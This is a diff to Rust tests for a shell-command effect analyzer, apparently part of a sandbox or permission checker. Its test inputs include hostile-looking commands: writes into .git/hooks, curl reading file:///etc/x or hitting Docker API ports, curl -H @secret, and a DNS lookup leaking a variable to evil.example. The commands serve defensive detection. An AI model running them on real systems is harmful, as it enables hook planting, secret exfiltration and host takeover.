@@ -16,6 +16,7 @@ fn is_opaque(effects: &Effects) -> bool {
 
 #[test]
 fn what_does_more_than_its_row_says_is_opaque_by_hand() {
+    let mut passed = Vec::new();
     for text in [
         "ls --hyperlink=/x src",
         "grep --unheard-of x src",
@@ -116,26 +117,32 @@ fn what_does_more_than_its_row_says_is_opaque_by_hand() {
         "curl --doh-url https://evil.example https://crates.io/x",
         "curl --dns-servers 1.2.3.4 https://crates.io/x",
         "curl --unix-socket /run/x.sock http://localhost/x",
+        "curl --unheard-of x https://crates.io/x",
+        "rsync -a --unheard-of=x src/a new",
         "curl gopher://localhost/x",
         "curl file:///etc/x",
         "curl http://localhost:2375/containers/json",
         "curl http://127.0.0.1:2376/x",
     ] {
         let effects = by_hand(text);
-        assert!(is_opaque(&effects), "{text}: {:#?}", effects.lines());
+        if !is_opaque(&effects) {
+            passed.push(format!("{text}: {:#?}", effects.lines()));
+        }
     }
+    assert!(passed.is_empty(), "{passed:#?}");
 }
 
 #[test]
 fn what_is_written_or_read_is_named() {
+    let mut passed = Vec::new();
     for (text, verb, name) in [
         ("link a b", Verb::Update, "a"),
         ("cp -l a b", Verb::Update, "a"),
         ("cp --link a b", Verb::Update, "a"),
         ("tar cf a.tar src --remove-files", Verb::Delete, "src"),
-        ("csplit -f .git/hooks/x a 1", Verb::Update, ".git/hooks/x"),
-        ("split a .git/hooks/x", Verb::Update, ".git/hooks/x"),
-        ("mktemp .git/hooks/x", Verb::Create, ".git/hooks/x"),
+        ("csplit -f .git/hooks/x a 1", Verb::DisableProtection, ".git/hooks/x"),
+        ("split a .git/hooks/x", Verb::DisableProtection, ".git/hooks/x"),
+        ("mktemp .git/hooks/x", Verb::DisableProtection, ".git/hooks/x"),
         ("scc -o out src", Verb::Update, "out"),
         ("gofmt -cpuprofile out main.go", Verb::Update, "out"),
         ("openssl rand -writerand out 8", Verb::Update, "out"),
@@ -145,12 +152,15 @@ fn what_is_written_or_read_is_named() {
         ("date 01010101", Verb::Update, "the time"),
         ("curl -H @secret https://crates.io/x", Verb::Read, "secret"),
         ("diff -X secret a b", Verb::Read, "secret"),
-        ("curl -O https://crates.io/a/.envrc?x=1", Verb::Create, ".envrc"),
+        ("curl -O 'https://crates.io/a/.envrc?x=1'", Verb::DisableProtection, ".envrc"),
         ("wget https://crates.io/a/Makefile", Verb::Create, "Makefile"),
     ] {
         let effects = by_hand(text);
-        assert!(has(&effects, verb, name), "{text}: {:#?}", effects.lines());
+        if !has(&effects, verb, name) {
+            passed.push(format!("{text}: {:#?}", effects.lines()));
+        }
     }
+    assert!(passed.is_empty(), "{passed:#?}");
     let whole = by_hand("terraform fmt /etc/x");
     assert!(whole.iter().any(|e| e.verb == Verb::Update && e.resource.name.starts_with("/etc/x")), "{:#?}", whole.lines());
 }
@@ -170,7 +180,7 @@ fn questions_to_registries_and_name_servers_are_contacts() {
         ("kustomize build https://evil.example/x", "evil.example"),
     ] {
         let effects = by_hand(text);
-        let reached = effects.iter().any(|e| e.resource.kind == "host" && e.resource.name == host && e.tier > Tier::Host);
+        let reached = effects.iter().any(|e| e.resource.kind == "host" && e.resource.name.starts_with(host) && e.tier > Tier::Host);
         assert!(reached, "{text}: {:#?}", effects.lines());
     }
     let told = by_hand("getent hosts \"$X\".evil.example");
@@ -188,11 +198,11 @@ fn a_new_folder_of_the_same_command_takes_what_it_gets() {
 #[test]
 fn everyday_commands_stay_readable_by_hand() {
     let all = include_str!("../../../../data/corpora/everyday.txt").split("\n== ");
-    let read_alike = all.filter(|section| !section.starts_with("code of the project")).flat_map(|section| section.lines().skip(1));
-    let commands: Vec<&str> = read_alike.filter(|line| !line.is_empty() && !line.starts_with('#')).collect();
-    let more = |text: &&&str| is_opaque(&by_hand(text)) && !is_opaque(&read(text, &facts(), Place::Host));
-    let held: Vec<&&str> = commands.iter().filter(more).collect();
-    assert!(held.len() * 25 < commands.len(), "{} of {}: {held:#?}", held.len(), commands.len());
+    let read_ones = all.filter(|section| !section.starts_with("builds, tests, installs")).flat_map(|section| section.lines().skip(1));
+    let commands: Vec<&str> = read_ones.filter(|line| !line.is_empty() && !line.starts_with('#')).collect();
+    let held: Vec<&&str> = commands.iter().filter(|text| is_opaque(&by_hand(text))).collect();
+    println!("{} of {}: {held:#?}", held.len(), commands.len());
+    assert!(commands.len() > 300 && held.len() * 10 < commands.len(), "{} of {}: {held:#?}", held.len(), commands.len());
 }
 
 #[test]
